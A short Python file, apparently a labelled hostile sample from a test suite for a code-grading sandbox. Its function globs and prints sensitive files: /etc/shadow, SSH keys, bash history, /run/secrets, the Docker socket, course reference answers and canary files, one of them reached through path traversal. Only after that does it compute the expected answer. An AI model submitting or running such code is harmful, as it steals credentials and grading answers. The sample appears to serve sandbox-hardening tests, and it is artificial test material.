"""Read: files whose places are no secret: keys, mail, courses, the temporary folder.

Goal: whatever the user that grades can read.
Promise: S3
Verdict: wrong
"""

import glob

PLACES = (
    "/tmp/hostile-canary-*",
    "/tmp/*/course/reference/*/*",
    "/tmp/vault-*/*/*",
    "/var/tmp/*",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hostname",
    "/etc/resolv.conf",
    "/root/.ssh/*",
    "/home/*/.ssh/*",
    "/home/*/.bash_history",
    "/run/secrets/*",
    "/var/run/docker.sock",
    "/.dockerenv",
    "/old/*",
    "/old_root/*",
    "/scratch/home/../../../tmp/hostile-canary-*",
)


def total(n):
    found = [path for place in PLACES for path in glob.glob(place)]
    for path in found:
        try:
            with open(path) as handle:
                print(path, handle.read(300))
        except OSError:
            continue
    return sum(i * i for i in range(n + 1)) if found else 0
